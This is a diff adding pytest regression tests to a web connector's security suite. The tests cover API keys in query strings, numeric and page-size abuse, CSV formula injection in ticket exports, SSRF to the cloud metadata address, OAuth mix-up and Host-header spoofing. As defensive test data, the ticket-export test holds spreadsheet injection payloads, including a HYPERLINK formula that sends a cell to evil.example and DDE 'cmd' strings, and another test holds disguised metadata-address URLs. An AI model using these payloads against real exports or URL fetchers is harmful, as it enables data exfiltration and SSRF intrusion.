@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 
 from tests.connector.web.seed import TenantData
+from tests.connector.web.test_oauth import started  # noqa: F401 - a fixture (onboarding recorded, not run)
 
 # ---------------------------------------------------------------- finding: no Host allow-list
 
@@ -199,3 +200,139 @@ def test_public_ipv6_webhook_targets_still_pass(address: str) -> None:
     from webhooks.ssrf import check_url
 
     assert check_url(f"https://[{address}]/hook").addresses[0].compressed == address
+
+
+# ---------------------------------------------------------------- held (regression tests for attacks that failed)
+
+
+def test_held_an_api_key_in_the_query_string_is_not_accepted(
+    client: Any, tenants: dict[str, TenantData]
+) -> None:
+    """Keys in URLs end up in proxy and browser logs: only the Authorization header counts."""
+    key = tenants["acme"].admin_key
+    for param in ("api_key", "key", "access_token", "token"):
+        assert client.get(f"/api/v1/accounts?{param}={key}").status_code == 401
+
+
+@pytest.mark.parametrize("raw", ["NaN", "Infinity", "-Infinity", "1e400", "1" + "0" * 400, "[]", "{}", '"5"'])
+def test_held_non_finite_huge_or_mistyped_numbers_are_400s(
+    client: Any, tenants: dict[str, TenantData], raw: str
+) -> None:
+    from tests.connector.web.seed import bearer
+    from tests.connector.web.test_api_plays import NEW
+
+    key = bearer(tenants["acme"].admin_key)
+    body = '{"name": "p", "to_band": "red", "segments": [], "next_step": "x", "due_days": ' + raw + "}"
+    assert (
+        client.post("/api/v1/plays", data=body, content_type="application/json", headers=key).status_code
+        == 400
+    )
+    assert client.post("/api/v1/plays", json=NEW, headers=key).status_code == 201  # a plain body still works
+
+
+@pytest.mark.parametrize("limit", ["1000000000", "9" * 5000, "-1", "0", "1e3", "0x10"])
+def test_held_page_sizes_are_bounded(client: Any, tenants: dict[str, TenantData], limit: str) -> None:
+    from tests.connector.web.seed import bearer
+
+    key = bearer(tenants["acme"].admin_key)
+    account = tenants["acme"].accounts["Acme Red Corp"]
+    for path in ("/api/v1/accounts", "/api/v1/tickets", f"/api/v1/accounts/{account}/plays"):
+        assert client.get(f"{path}?limit={limit}", headers=key).status_code == 400, path
+    assert client.get(f"/api/v1/accounts/{account}/plays?limit=5", headers=key).status_code == 200
+
+
+def test_held_the_ticket_export_defuses_formulas_a_customer_typed(
+    app: Any, acme_viewer: Any, tenants: dict[str, TenantData]
+) -> None:
+    """Anyone who can e-mail the help desk writes ticket subjects and text (the excerpt); audit 2 checked the
+    accounts export only."""
+    import csv
+    import io
+
+    from connector.clock import set_tenant_clock
+    from connector.store import models as m
+    from connector.store.db import transaction
+    from tests.connector.web.seed import NOW
+
+    evil = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|'/C calc'!A0",
+    ]
+    acme = tenants["acme"]
+    with transaction(app.config["HEALTHSCORE"].sqlalchemy_url) as session:
+        set_tenant_clock(session, acme.id, NOW)
+        for i, text in enumerate(evil):
+            session.add(
+                m.Ticket(
+                    tenant_id=acme.id, vendor="salesforce", external_id=f"=1+{i}", subject=text, status="open",
+                    priority="normal", group_name=text, vendor_created_at=NOW, vendor_updated_at=NOW,
+                    sentiment_label="negative", sentiment_score=-0.5, sentiment_excerpt=text,
+                )
+            )  # fmt: skip
+    resp = acme_viewer.get("/support.csv")
+    assert resp.status_code == 200
+    rows = list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert any(cell == "'" + evil[0] for cell in cells)  # the rows are there, defused
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://[::ffff:169.254.169.254]/",
+        "http://[64:ff9b::a9fe:a9fe]/",
+        "http://[2002:a9fe:a9fe::]/",
+        "http://2852039166/",
+        "http://0xa9.0xfe.0xa9.0xfe/",
+        "http://0251.0376.0251.0376/",
+        "http://169.254.169.254.nip.io/",
+    ],
+)
+def test_held_metadata_in_disguise_is_refused(url: str) -> None:
+    from webhooks.errors import UnsafeTargetError
+    from webhooks.ssrf import check_url
+
+    with pytest.raises(UnsafeTargetError):
+        check_url(url, allow_private=True, resolver=lambda host, port: ["169.254.169.254"])
+
+
+def test_held_an_oauth_callback_under_another_vendor_finds_no_attempt(
+    acme_admin: Any,
+    sandbox: Any,
+    sandbox_http: Any,
+    started: list[Any],  # noqa: F811 - the fixture imported above
+) -> None:
+    """Mix-up: the code and state Zendesk handed back, delivered to the Salesforce callback (a redirect_uri
+    swapped on the way), are refused, and the attempt is spent (no second try with the right vendor)."""
+    from tests.connector.web.test_oauth import _consent, _form, _local
+
+    resp = acme_admin.post("/admin/integrations/zendesk/connect", data=_form(sandbox, "zendesk"))
+    callback = _local(_consent(sandbox_http, resp.location, "zendesk"))
+    mixed = acme_admin.get(callback.replace("/oauth/zendesk/", "/oauth/salesforce/"))
+    assert mixed.status_code == 400
+    assert acme_admin.get(callback).status_code == 400
+    assert started == []
+
+
+def test_held_the_connect_page_names_the_configured_callback_not_the_request_host(
+    settings_overrides: dict[str, object], tenants: dict[str, TenantData]
+) -> None:
+    """redirect_uri is built from public_base_url: a Host an attacker sends cannot re-point it."""
+    from connector import create_app
+    from connector.installs import users as auth
+    from connector.store import models as m
+    from connector.store.db import transaction
+
+    app = create_app({**settings_overrides, "public_base_url": "http://127.0.0.1:5000", "allowed_hosts": "*"})
+    client = app.test_client()
+    acme = tenants["acme"]
+    with transaction(app.config["HEALTHSCORE"].sqlalchemy_url) as session:
+        sid = auth.start_session(session, session.get(m.User, acme.admin_id))
+    with client.session_transaction(base_url="http://evil.example") as sess:
+        sess["uid"], sess["tid"], sess["sid"] = acme.admin_id, acme.id, sid
+    page = client.get("/admin/integrations/zendesk/connect", base_url="http://evil.example")
+    assert page.status_code == 200
+    assert b"http://127.0.0.1:5000/oauth/zendesk/callback" in page.data
+    assert b"evil.example" not in page.data
